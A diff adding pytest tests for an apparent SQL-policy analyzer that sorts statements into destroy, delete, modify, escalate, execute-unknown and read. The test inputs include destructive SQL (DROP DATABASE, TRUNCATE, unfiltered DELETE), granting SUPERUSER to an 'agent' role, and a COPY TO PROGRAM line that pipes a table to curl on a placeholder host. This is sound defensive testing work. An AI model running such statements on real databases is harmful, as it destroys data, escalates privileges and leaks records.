@@ -1,0 +1,65 @@
+"""SQL statements judged by the policy: destruction held, filtered changes held, reads allowed."""
+
+from __future__ import annotations
+
+import pytest
+
+from blastdoor.analyze.sql import analyze_sql
+from blastdoor.model import Verb
+
+
+@pytest.mark.parametrize(
+    ("sql", "verb", "tag"),
+    [
+        ("DROP TABLE invoices CASCADE", Verb.DESTROY, "cascade"),
+        ("drop database shop", Verb.DESTROY, "drop"),
+        ("TRUNCATE audit_log", Verb.DELETE, "truncate"),
+        ("DELETE FROM accounts", Verb.DELETE, "no-where"),
+        ("UPDATE accounts SET plan = 'free' WHERE 2 = 2", Verb.MODIFY, "trivial-where"),
+        ("delete from accounts where id is not null", Verb.DELETE, "trivial-where"),
+        ("DELETE FROM accounts WHERE id = 42", Verb.DELETE, "filtered"),
+        ("ALTER TABLE accounts DROP COLUMN phone", Verb.DESTROY, "drop-column"),
+        ("ALTER ROLE agent WITH SUPERUSER", Verb.ESCALATE, "permissions"),
+        ("DELETE FROM `orders`", Verb.DELETE, "unparsed"),
+        ("DROP KEYSPACE metrics", Verb.DESTROY, "unparsed"),
+    ],
+)
+def test_statement_verbs(sql: str, verb: Verb, tag: str) -> None:
+    found = analyze_sql(sql, target="db.internal/shop")
+    match = [e for e in found if e.verb is verb]
+    assert match, found
+    assert tag in match[0].tags
+    assert "database=db.internal/shop" in match[0].tags
+
+
+def test_reads_and_meta_commands_only_read() -> None:
+    found = analyze_sql(
+        "\\dt\nSELECT count(*) FROM orders;\nSHOW search_path;\nEXPLAIN DELETE FROM orders;"
+    )
+    assert {e.verb for e in found} == {Verb.READ}
+
+
+def test_explain_analyze_runs_the_statement() -> None:
+    assert {e.verb for e in analyze_sql("EXPLAIN ANALYZE DELETE FROM orders")} == {Verb.DELETE}
+
+
+def test_data_changing_cte_is_seen() -> None:
+    found = analyze_sql(
+        "WITH gone AS (DELETE FROM sessions RETURNING id) SELECT count(*) FROM gone"
+    )
+    assert Verb.DELETE in {e.verb for e in found}
+
+
+def test_do_block_and_copy_program() -> None:
+    assert Verb.DESTROY in {
+        e.verb for e in analyze_sql("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$")
+    }
+    found = analyze_sql("COPY orders TO PROGRAM 'curl -d @- http://x'")
+    assert found[0].verb is Verb.EXECUTE_UNKNOWN
+
+
+@pytest.mark.parametrize(
+    "garbage", ["", ";;;", "\x00\x01", "SELECT 'unterminated", "$$", "((((" * 50]
+)
+def test_never_raises(garbage: str) -> None:
+    assert isinstance(analyze_sql(garbage), list)
